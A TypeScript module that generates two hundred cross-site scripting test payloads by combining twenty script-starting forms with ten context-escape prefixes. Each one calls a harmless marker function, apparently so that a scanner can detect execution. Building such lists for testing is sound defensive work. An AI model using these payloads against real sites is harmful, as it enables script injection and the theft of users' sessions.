/**
 * Texts that would run a script in a page which took them for mark-up, a value, a style or code: each way to begin one
 * (`KINDS`) behind each way out of where a text may stand (`CONTEXTS`). All call `ran` with their own number, and are
 * short enough for every field.
 */

type Kind = (call: string) => string;

const KINDS: readonly Kind[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<iframe srcdoc="<script>top.${call}</script>">`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<style onload=${call}>*{}</style>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<form action=javascript:${call}><button autofocus>x`,
  (call) => `<template><img src onerror=${call}>`,
  (call) => `<x onpointerover=${call} style=inset:0>x`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `'-${call}-'`,
  (call) => `url(javascript:${call})`,
];

const CONTEXTS: readonly string[] = ['', '">', `'>`, '</textarea>', '</title>', '</style>', '-->', ']]>', '"}', '`;'];

/** Two hundred: each kind in each context. */
export const PAYLOADS: readonly string[] = CONTEXTS.flatMap((context, row) =>
  KINDS.map((kind, column) => `${context}${kind(`ran(${row * KINDS.length + column})`)}`),
);
